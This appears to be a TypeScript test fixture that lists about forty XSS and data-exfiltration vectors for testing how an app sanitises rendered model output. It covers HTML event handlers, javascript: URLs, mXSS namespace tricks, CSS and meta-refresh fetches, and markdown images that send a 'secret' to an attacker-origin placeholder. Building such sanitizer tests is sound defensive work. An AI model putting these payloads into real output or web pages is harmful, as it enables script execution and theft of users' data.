/**
 * Model output that tries to run script or fetch from another origin. The HTML vectors are the classic families
 * DOMPurify's test suite and the OWASP XSS filter-evasion sheet cover (event handlers, javascript: URLs, SVG and
 * MathML namespace confusion, mXSS through comments/noscript/template, CSS url() and @import, meta refresh,
 * base/form/object/embed/iframe, srcset, data: documents); the markdown ones are what a model can write
 * without any HTML: images (inline, reference-style, nested in links), autolinks and link titles.
 * `CANARY` is a function the page defines; `ATTACK` is the attacker's origin.
 */
export function xssVectors(attack: string): string[] {
  const hit = (tag: string) => `${attack}/hit?v=${tag}`;
  return [
    `<img src=x onerror=__canary()>`,
    `<img src="${hit('img')}">`,
    `<svg onload=__canary()><image href="${hit('svgimage')}"/></svg>`,
    `<svg><script>__canary()</script></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=__canary()>`,
    `<a href="javascript:__canary()">click</a>`,
    `<a href="JaVaScRiPt:__canary()">click</a>`,
    `<a href="jav&#x09;ascript:__canary()">click</a>`,
    `<iframe src="${hit('iframe')}"></iframe>`,
    `<iframe srcdoc="<script>parent.__canary()</script>"></iframe>`,
    `<object data="${hit('object')}"></object>`,
    `<embed src="${hit('embed')}">`,
    `<video poster="${hit('poster')}"><source src="${hit('source')}"></video>`,
    `<audio src="${hit('audio')}" onerror=__canary()></audio>`,
    `<img srcset="${hit('srcset')} 1x">`,
    `<picture><source srcset="${hit('picture')}"><img></picture>`,
    `<link rel=stylesheet href="${hit('link')}">`,
    `<link rel=prefetch href="${hit('prefetch')}">`,
    `<style>@import "${hit('import')}"; body{background:url(${hit('cssurl')})}</style>`,
    `<div style="background:url(${hit('styleattr')})">styled</div>`,
    `<meta http-equiv="refresh" content="0;url=${hit('refresh')}">`,
    `<base href="${attack}/">`,
    `<form action="${hit('form')}"><button>go</button></form>`,
    `<input autofocus onfocus=__canary()>`,
    `<details open ontoggle=__canary()>`,
    `<body onload=__canary()>`,
    `<!--<img src="--><img src=x onerror=__canary()//">`,
    `<noscript><p title="</noscript><img src=x onerror=__canary()>">`,
    `<template><img src=x onerror=__canary()></template>`,
    `<a href="data:text/html,<script>__canary()</script>">data</a>`,
    `<x onmouseover=__canary()>hover</x>`,
    `"><img src=x onerror=__canary()>`,
    `<scr<script>ipt>__canary()</scr</script>ipt>`,
    `![exfil](${hit('md-inline')}&q=secret)`,
    // Definition first: the app renders each blank-line-separated block on its own.
    `[logo]: ${hit('md-ref')}\n![ref][logo]`,
    `[![nested](${hit('md-nested')})](https://example.org)`,
    `![x](javascript:__canary())`,
    `[link](javascript:__canary())`,
    `[link](${attack}/link "title")`,
    `<${hit('autolink')}>`,
    `${hit('linkify')}`,
    '```html\n<img src=x onerror=__canary()>\n```',
    `![data](data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="__canary()"/>')})`,
  ];
}
